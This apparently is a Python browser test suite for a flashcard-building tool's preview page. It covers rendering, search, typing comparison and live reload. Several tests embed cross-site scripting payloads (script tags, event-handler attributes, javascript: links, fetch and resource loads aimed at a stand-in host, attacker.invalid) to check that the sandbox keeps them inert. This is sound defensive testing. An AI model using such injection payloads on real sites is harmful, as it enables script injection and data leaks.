"""The preview in a real browser: what a learner does with it, and what a hostile note cannot do."""

import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from browser import BrowserPage, until

FERRY = """# The ferry

Link: https://example.org/ferry

原文：

The ferry was *late*. We waited by the harbour wall.

渡轮晚点了。我们在港口的墙边等着。

学习：

ferry：美 [ˈferi] 渡轮；摆渡

harbour：港口

lighthouse：灯塔
"""
KITCHEN = """# A kitchen

原文：

She peeled the naïve little onions one by one.

她把那些天真的小洋葱一个一个剥好。

学习：

peel：剥皮
"""
SETTINGS = """\
collection = "Evening notes"
sentences = "all"
sentence_cards = ["read", "produce", "listen"]
terms = ["recognise", "recall", "cloze", "spell", "hear"]
cloze_typing = true
"""


@contextmanager
def previewed(folder: Path, *arguments: str) -> Iterator[str]:
    """The address of a preview of the notes in `folder`, ended by Ctrl-C."""
    command = [sys.executable, "-m", "anki_builder", "preview", "--port", "0", "--no-open", *arguments]
    with subprocess.Popen(command, cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
        try:
            assert process.stdout is not None
            yield process.stdout.readline().strip()
        finally:
            process.send_signal(signal.SIGINT)
            _, said = process.communicate(timeout=10)
    assert process.returncode == 0
    assert "Traceback" not in said
    assert said.endswith("preview ended\n")


def notes(folder: Path, **files: str) -> Path:
    (folder / "source").mkdir(exist_ok=True)
    (folder / "anki_builder.toml").write_text(SETTINGS, encoding="utf-8")
    for name, text in files.items():
        (folder / "source" / f"{name}.md").write_text(text, encoding="utf-8")
    return folder


class Page(BrowserPage):
    """The page of the preview, as a learner uses it."""

    def __init__(self, browser: Any, address: str) -> None:
        super().__init__(browser, address)
        until(self.rows)
        until(lambda: self.side("front"))

    def keys(self, *keys: str) -> None:
        from selenium.webdriver import ActionChains

        ActionChains(self.browser).send_keys(*keys).perform()

    def click(self, selector: str) -> None:
        self.script("document.querySelector(arguments[0]).click()", selector)

    def text(self, selector: str) -> str:
        return str(self.script("return document.querySelector(arguments[0]).textContent", selector))

    def rows(self) -> list[str]:
        return list(self.script("return [...document.querySelectorAll('.row')].map((row) => row.innerText)"))

    def chosen(self) -> str:
        return str(self.script("return document.querySelector('.row[aria-selected=true]')?.innerText ?? ''"))

    @contextmanager
    def frame(self, side: str) -> Iterator[Any]:
        self.browser.switch_to.frame(side)
        try:
            yield self.browser
        finally:
            self.browser.switch_to.default_content()

    def side(self, side: str) -> str:
        """The text of one side of the card."""
        with self.frame(side):
            return str(self.script("return document.getElementById('qa')?.innerText ?? ''"))

    def classes(self, side: str = "front") -> tuple[str, str]:
        with self.frame(side):
            return tuple(self.script("return [document.documentElement.className, document.body?.className ?? '']"))

    def seek(self, words: str, kind: str = "") -> None:
        self.script(
            "$('search').value = arguments[0]; $('kind').value = arguments[1]; $('search').dispatchEvent(new Event('input'))",
            words,
            kind,
        )

    def requests(self) -> set[str]:
        return {url for url in self.asked() if not url.startswith(("data:", "about:"))}


@pytest.fixture(scope="module")
def evening(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    folder = notes(tmp_path_factory.mktemp("evening"), ferry=FERRY, kitchen=KITCHEN)
    with previewed(folder) as address:
        yield folder, address


@pytest.fixture
def page(browser: Any, evening: tuple[Path, str]) -> Iterator[Page]:
    page = Page(browser, evening[1])
    yield page
    browser.switch_to.default_content()
    page.script("sessionStorage.clear()")
    assert [entry for entry in browser.get_log("browser") if entry["level"] in ("SEVERE", "WARNING")] == []
    assert {url for url in page.requests() if not url.startswith(evening[1])} == set()


def test_every_kind_of_card_is_shown_on_both_sides(page: Page) -> None:
    assert page.text("#title") == "Evening notes"
    kinds = page.script("return [...document.querySelectorAll('#kind option')].map((option) => option.value)")
    assert {"Read", "Produce", "Listen", "Recognise", "Recall", "Spell", "Hear", "Cloze"} <= set(kinds)
    for kind in kinds[1:9]:
        page.seek("ferry", kind)
        until(lambda kind=kind: page.chosen().split("\n")[1].startswith(kind))  # type: ignore[misc]
        until(lambda: page.side("front") and "The ferry" in page.side("back"))


def test_a_card_stands_beside_its_line_and_its_diagnostics(page: Page) -> None:
    page.seek("lighthouse", "Recognise")
    until(lambda: page.side("front").startswith("lighthouse"))
    until(lambda: page.text("#place") == "source/ferry.md:17")
    assert "lighthouse：灯塔" in page.text(".source")
    assert "term-not-found" in page.text(".problems")
    assert page.text(".excerpt mark") == "lighthouse"
    roles = page.script("return [...document.querySelectorAll('.source .role')].map((role) => role.textContent)")
    assert any("entry" in role for role in roles), roles
    assert "warning" in page.chosen()


def test_a_safe_correction_stands_below_its_diagnostic(browser: Any, tmp_path: Path) -> None:
    with previewed(notes(tmp_path, ferry=FERRY.replace("harbour wall.", "harbour wall.."))) as address:
        page = Page(browser, address)
        page.seek("waited", "Read")
        until(lambda: "waited" in page.side("front"))
        assert page.text(".fix") == "Correction of line 7: .. → .  `anki-builder check --fix` writes it"
        assert [page.text(".fix del"), page.text(".fix ins")] == ["..", "."]


def test_modes_and_clients_have_their_classes(page: Page) -> None:
    assert page.classes() == ("linux chrome", "card card1 isLin fancy")
    page.click("[value=night]")
    until(lambda: page.classes() == ("linux chrome night-mode", "card card1 isLin nightMode night_mode fancy"))
    with page.frame("front"):
        dark = page.script("return getComputedStyle(document.body).backgroundColor")
    assert dark == "rgb(33, 31, 28)"
    page.click("[value=black]")
    until(lambda: page.classes() == ("mobile android linux js", "card card1 night_mode nightMode"))
    with page.frame("front"):
        assert page.script("return getComputedStyle(document.body).backgroundColor") == "rgb(0, 0, 0)"
        assert (
            page.script("return getComputedStyle(document.body).color") == "rgb(217, 211, 199)"
        )  # the theme's, not the program's
    page.click("[value=ios]")
    until(lambda: "iphone" in page.classes()[0] and "nightMode" in page.classes()[1])
    page.keys("w")
    until(lambda: page.script("return document.getElementById('front').clientWidth") > 500)


def test_search_finds_text_translation_and_place(page: Page) -> None:
    everything = int(page.text("#count").split()[0])
    for words in ("洋葱", "kitchen.md", "PEEL onions"):
        page.seek(words)
        until(lambda: int(page.text("#count").split()[0]) < everything)
        assert all("kitchen.md" in row for row in page.rows())
    page.seek("no such word anywhere")
    assert page.text("#nothing") == "No card matches the search."


def test_keys_move_and_are_listed(page: Page) -> None:
    first = page.chosen()
    page.keys("j")
    until(lambda: page.chosen() != first)
    page.keys("k")
    until(lambda: page.chosen() == first)
    page.keys("G")
    until(lambda: page.script("return chosen === found.length - 1"))
    page.keys("/")
    page.keys("wall", "\ue007")
    until(lambda: "wall" in page.script("return found[chosen].note.search"))
    assert page.script("return document.activeElement.id") == "list"
    page.keys("?")
    until(lambda: page.script("return $('help').open"))
    listed = set(page.script("return [...document.querySelectorAll('#help kbd')].map((key) => key.textContent)"))
    known = set(page.script("return Object.keys(KEYS)"))
    named = {"↓": "ArrowDown", "↑": "ArrowUp", "Esc": "Escape", "Enter": "Enter"}
    assert {named.get(key, key) for key in listed} - {"Enter"} <= known
    page.keys("\ue00c")


def test_typing_is_compared_as_anki_does(page: Page) -> None:
    page.seek("摆渡", "Spell")
    until(lambda: "渡轮" in page.side("front"))
    with page.frame("back"):
        assert page.script("return document.getElementById('typeans').textContent") == "ferry"
    with page.frame("front") as browser:
        browser.find_element("id", "typeans").send_keys("fery")
    with page.frame("back"):
        found = until(
            lambda: page.script("return document.querySelector('.typeMissed') && document.getElementById('typeans').innerHTML")
        )
    assert found == (
        '<span class="typeGood">fer</span><span class="typeMissed">-</span><span class="typeGood">y</span><br>'
        '<span id="typearrow">↓</span><br>'
        '<span class="typeGood">fer</span><span class="typeMissed">r</span><span class="typeGood">y</span>'
    )
    page.click("[value=night]")
    with page.frame("front"):
        until(lambda: page.script("return document.getElementById('typeans')?.value") == "fery")


TYPED = [
    ("ferry", "fery"), ("ferry", "ferry"), ("ferry", "Ferry"), ("ferry", "xx"), ("it's", "its"), ("naïve", "naive"), ("naïve", "naïve"),
    ("港口", "港"), ("渡轮；摆渡", "摆渡"), ("a <b> & \"c\"", "a b c"), ("turn things around", "turn around things"), ("e\u0301te\u0301", "été"),
    ("été", "ete"), ("ab" * 120, "ba" * 110),
    (" ".join(FERRY.split()) * 2, " ".join(FERRY.replace("e", "").split()) * 2), ("\u0e01\u0e33", "\u0e01"), ("강아지", "강아"),
]  # fmt: skip


def test_the_comparison_equals_that_of_the_real_anki(page: Page, tmp_path: Path) -> None:
    pytest.importorskip("anki", reason="Anki is not installed")
    from anki.collection import Collection

    collection = Collection(str(tmp_path / "collection.anki2"))
    for combining in (True, False):
        for expected, typed in TYPED:
            asked = "shown = { expected: arguments[0], combining: arguments[2] }; return compare(arguments[1])"
            ours = page.script(asked, expected, typed, combining)
            theirs = collection.compare_answer(expected, typed, combining)
            # the field is HTML there, plain text here
            if "<" not in expected:
                assert ours == theirs, (expected, typed, combining)
    collection.close()


def test_speech_buttons_speak_through_the_browser(page: Page) -> None:
    page.seek("摆渡", "Recognise")
    until(lambda: "渡轮" in page.side("back"))
    page.script("window.said = []; speechSynthesis.speak = (spoken) => said.push([spoken.text, spoken.lang])")
    with page.frame("back") as browser:
        browser.find_element("css selector", ".replay-button").click()
    until(lambda: page.script("return said") == [["ferry", "en-US"]])
    page.keys("R")
    until(lambda: page.script("return said.length") == 2)


def test_a_save_shows_within_a_second_and_keeps_the_place(page: Page, evening: tuple[Path, str]) -> None:
    file = evening[0] / "source" / "kitchen.md"
    page.seek("peel", "Recall")
    until(lambda: "剥皮" in page.side("front"))
    page.click("[value=night]")
    waits = []
    for gloss in ("削皮", "去皮", "剥去外皮"):
        started = time.monotonic()
        file.write_text(KITCHEN.replace("剥皮", gloss), encoding="utf-8")
        until(lambda gloss=gloss: gloss in page.side("front"))  # type: ignore[misc]
        waits.append(time.monotonic() - started)
    assert min(waits) < 1, waits
    assert page.script("return $('search').value + $('kind').value") == "peelRecall"
    assert "nightMode" in page.classes()[1]
    until(lambda: "kitchen.md saved" in page.text("#status"))


def test_a_broken_setting_is_told_and_the_cards_stay(page: Page, evening: tuple[Path, str]) -> None:
    settings = evening[0] / "anki_builder.toml"
    settings.write_text(SETTINGS + 'thme = "paper"\n', encoding="utf-8")
    until(lambda: "did you mean “theme”" in page.text("#problem"))
    assert page.rows()
    settings.write_text(SETTINGS + 'theme = "contrast"\n', encoding="utf-8")
    until(lambda: page.script("return $('problem').hidden && Object.values(data.css)[0].includes('/* Contrast')"))
    settings.write_text(SETTINGS, encoding="utf-8")
    until(lambda: page.script("return Object.values(data.css)[0].includes('/* Paper')"))


HOSTILE = """# <script>parent.pwned = 1</script> {{Text}}

Link: javascript:pwned=1

原文：

He wrote <script>pwned = 1</script> and <img src=x onerror="pwned=1"> and </style><b onclick=pwned=1> and {{FrontSide}} on a wall.

他写了 <script>pwned = 1</script> 和 </style></iframe><svg onload=pwned=1> 以及 {{c1::墙}} 在墙上。[点这里](javascript:pwned=1)

The old **\u0338 tabindex=0 autofocus onfocus=pwned=1 lamp** went out.

那盏旧灯灭了。

学习：

\u0338 tabindex=0 autofocus onfocus=pwned=1：灯

wall：墙 <iframe srcdoc="<script>parent.pwned=1</script>"></iframe> </script><script>pwned=1</script>
"""
HOSTILE_FACE = """{{Text}}<script>pwned = 1; parent.pwned = 1</script><img src="http://attacker.invalid/x.png" onerror="pwned = 1">
<a id=bad href="javascript:pwned=1">x</a><iframe src="http://attacker.invalid/"></iframe><svg onload="pwned=1"></svg>
<script src="http://attacker.invalid/x.js"></script><link rel=stylesheet href="http://attacker.invalid/x.css">
<form action="http://attacker.invalid/"><button id=send>send</button></form><details open ontoggle="pwned=1"></details>
<base href="http://attacker.invalid/"><object data="http://attacker.invalid/"></object>"""


def test_hostile_notes_and_templates_do_nothing(browser: Any, tmp_path: Path) -> None:
    folder = notes(tmp_path, hostile=HOSTILE)
    with previewed(folder) as address:
        page = Page(browser, address)
        for index in range(int(page.text("#count").split()[0])):
            page.script("choose(arguments[0])", index)
            until(lambda: page.side("front") and page.side("back"))
        assert page.script("return document.querySelectorAll('script').length") == 3
        assert [entry for entry in browser.get_log("browser") if entry["level"] == "SEVERE"] == []
        page.seek("wall", "Read")
        assert until(lambda: "<script>pwned = 1</script>" in page.side("front"))
        _inert(page)
        face = folder / "templates" / "sentence" / "read.front.html"
        face.parent.mkdir(parents=True)
        face.write_text(HOSTILE_FACE, encoding="utf-8")
        refresh = '<meta http-equiv=refresh content="0;url=http://attacker.invalid/">'
        face.with_name("read.back.html").write_text(f"{{{{FrontSide}}}}{refresh}", encoding="utf-8")
        (folder / "templates" / "user.css").write_text(
            "</style><script>pwned=1</script><style>.card{background:url(http://attacker.invalid/y)}"
        )
        with page.frame("front"):
            until(lambda: page.script("return !!document.getElementById('bad')"))
        with page.frame("front"):
            page.script("document.getElementById('bad').click(); document.getElementById('send').click()")
        time.sleep(0.3)
        _inert(page)


def _inert(page: Page) -> None:
    assert page.script("return window.pwned") is None
    for side in ("front", "back"):
        with page.frame(side):
            assert page.script("return window.pwned") is None
    assert {url for url in page.requests() if not url.startswith(page.address)} == set()


def test_hostile_notes_do_nothing_as_anki_renders_them(browser: Any, tmp_path: Path) -> None:
    pytest.importorskip("anki", reason="Anki is not installed")
    from anki_collection import anki_collection

    folder = notes(tmp_path, hostile=HOSTILE)
    subprocess.run(
        [sys.executable, "-m", "anki_builder", "build", "-o", "deck.apkg"], cwd=folder, capture_output=True, check=True
    )
    with anki_collection() as anki:
        anki.add(folder / "deck.apkg")
        cards = anki.cards()
    sides = [f"<section>{side}</section>" for card in cards for side in (card.question, card.answer)]
    assert len(sides) > 10
    (tmp_path / "anki.html").write_text(f"<!doctype html><meta charset=utf-8>{''.join(sides)}<p id=end>", encoding="utf-8")
    browser.get_log("performance")
    browser.get((tmp_path / "anki.html").as_uri())
    until(lambda: browser.execute_script("return !!document.getElementById('end')"))
    assert browser.execute_script("return window.pwned") is None
    assert browser.execute_script("return document.querySelectorAll('body > section').length") == len(sides)
    live = "script, iframe, svg, [onclick], [onerror], [onfocus], [href^=javascript]"
    assert browser.execute_script("return [...document.querySelectorAll(arguments[0])].map((e) => e.outerHTML)", live) == []


def test_the_page_written_to_a_file_needs_nothing_else(browser: Any, tmp_path: Path) -> None:
    folder = notes(tmp_path, ferry=FERRY + "\n![](wall.png)\n", kitchen=KITCHEN)
    command = [sys.executable, "-m", "anki_builder", "preview", "--html", "out/cards.html", "--limit", "9"]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=True)
    assert done.stdout == "out/cards.html\n"
    assert re.search(r"the first \d of \d\d cards", done.stderr)
    (folder / "out" / "cards.html").rename(tmp_path / "alone.html")
    page = Page(browser, (tmp_path / "alone.html").as_uri())
    assert "are not in this file" in page.text("#count")
    page.click("[value=night]")
    until(lambda: "nightMode" in page.classes()[1])
    page.keys("j")
    until(lambda: page.script("return chosen") == 1)
    assert [entry for entry in browser.get_log("browser") if entry["level"] == "SEVERE"] == []
    assert {url.partition("#")[0] for url in page.requests()} == {page.address}


SCRIPTED = """<p id=word>{{Text}}</p><script>
document.getElementById("word").dataset.ran = "yes";
try { parent.document.title = "pwned"; } catch { document.body.dataset.kept = "out"; }
fetch("http://attacker.invalid/").catch(() => { document.body.dataset.fetched = "no"; });
new Image().src = "http://attacker.invalid/x.png";
</script><script src="_library.js"></script>"""


def test_scripts_of_a_template_are_named_and_run_in_a_closed_frame_when_asked(browser: Any, tmp_path: Path) -> None:
    folder = notes(tmp_path, ferry=FERRY)
    (folder / "templates" / "sentence").mkdir(parents=True)
    (folder / "templates" / "_media").mkdir()
    (folder / "templates" / "sentence" / "read.front.html").write_text(SCRIPTED, "utf-8")
    (folder / "templates" / "_media" / "_library.js").write_text("document.body.dataset.library = 'here'", "utf-8")
    with previewed(folder) as address:
        page = Page(browser, address)
        page.seek("wall", "Read")
        until(lambda: not page.script("return $('scripts').hidden"))
        with page.frame("front"):
            assert until(lambda: page.script("return document.getElementById('word')?.textContent"))
            assert page.script("return document.getElementById('word').dataset.ran") is None
        page.click("#run")
        with page.frame("front"):
            until(lambda: page.script("return document.getElementById('word')?.dataset.ran") == "yes")
            until(lambda: page.script("return document.body.dataset.library") == "here")
            until(lambda: page.script("return document.body.dataset.fetched") == "no")
            assert page.script("return document.body.dataset.kept") == "out"
            assert page.script("return document.body.className").startswith("card card1")
        assert page.script("return document.title") != "pwned"
        page.seek("港口", "Produce")
        until(lambda: page.script("return $('scripts').hidden"))
        page.click("#run")
